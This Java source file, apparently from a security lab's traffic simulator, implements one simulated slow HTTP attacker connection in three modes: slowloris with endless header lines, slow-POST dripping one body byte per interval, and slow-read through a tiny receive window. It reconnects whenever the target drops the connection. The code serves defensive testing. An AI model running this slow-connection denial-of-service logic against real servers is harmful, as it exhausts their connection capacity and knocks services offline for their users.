package io.rampart.lab.load;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.ChannelOption;
import io.netty.channel.EventLoop;
import io.netty.channel.FixedRecvByteBufAllocator;
import io.netty.util.ReferenceCountUtil;
import io.rampart.lab.Kind;
import io.rampart.lab.scenario.Persona;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;

/**
 * One connection of a slow attacker, written byte by byte on a raw socket:
 * <ul>
 * <li>slowloris: a request head that never ends, one more header line every interval;</li>
 * <li>slow-post: a complete head announcing a 100 KB form, then one body byte every interval;</li>
 * <li>slow-read: asks for a 1 MiB download and reads 256 bytes every interval through a tiny
 *     receive window.</li>
 * </ul>
 * When the target closes the connection, the attacker opens another (after one interval).
 */
final class SlowConnection extends Simulated {
    private final Persona mode;
    private final InetSocketAddress source;
    private final long interval;
    private final AtomicLong open;
    private Channel channel;
    private boolean connected;
    private int lines;

    SlowConnection(RunContext run, EventLoop loop, Persona mode, InetAddress source, long start, long end, long interval,
                   AtomicLong open, long seed) {
        super(run, loop, start, end, seed);
        this.mode = mode;
        this.source = new InetSocketAddress(source, 0);
        this.interval = interval;
        this.open = open;
    }

    @Override
    long stagger() {
        return between(0, 500_000_000L);
    }

    @Override
    void begin() {
        connect();
    }

    private void connect() {
        var b = run.bootstrap.clone(loop).localAddress(source).handler(new Watcher());
        if (mode == Persona.SLOW_READ) {
            b.option(ChannelOption.SO_RCVBUF, 4096).option(ChannelOption.AUTO_READ, false)
                    .option(ChannelOption.RCVBUF_ALLOCATOR, new FixedRecvByteBufAllocator(256).maxMessagesPerRead(1));
        }
        ChannelFuture f = b.connect(run.target());
        channel = f.channel();
        run.channels.add(channel);
        f.addListener(done -> {
            if (!done.isSuccess()) {
                later(interval, this::connect);
                return;
            }
            connected = true;
            open.incrementAndGet();
            run.tally.slowConnection(true);
            channel.writeAndFlush(ascii(head()));
            later(interval, this::drip);
        });
    }

    private String head() {
        String common = "Host: " + run.host + "\r\nUser-Agent: " + Requests.BROWSERS.get(1) + "\r\n" + Kind.HEADER + ": slow\r\n";
        switch (mode) {
            case SLOWLORIS:
                return "GET /?" + Requests.random(random, 6) + " HTTP/1.1\r\n" + common;
            case SLOW_POST:
                return "POST /login HTTP/1.1\r\n" + common + "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\nuser=";
            default:
                return "GET /download/report.pdf HTTP/1.1\r\n" + common + "\r\n";
        }
    }

    private void drip() {
        Channel c = channel;
        if (c == null || !c.isActive()) {
            return;
        }
        switch (mode) {
            case SLOWLORIS: c.writeAndFlush(ascii("X-Wait-" + (++lines) + ": " + Requests.random(random, 4) + "\r\n")); break;
            case SLOW_POST: c.writeAndFlush(ascii("a")); break;
            default: c.read(); break;
        }
        later(interval, this::drip);
    }

    private static ByteBuf ascii(String s) {
        return Unpooled.copiedBuffer(s, StandardCharsets.US_ASCII);
    }

    private final class Watcher extends ChannelInboundHandlerAdapter {
        @Override
        public void channelRead(ChannelHandlerContext ctx, Object msg) {
            ReferenceCountUtil.release(msg);
        }

        @Override
        public void channelInactive(ChannelHandlerContext ctx) {
            if (connected && ctx.channel() == channel) {
                connected = false;
                open.decrementAndGet();
                if (!run.stopped()) {
                    run.tally.slowConnection(false);
                }
                channel = null;
                later(interval, SlowConnection.this::connect);
            }
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close();
        }
    }
}
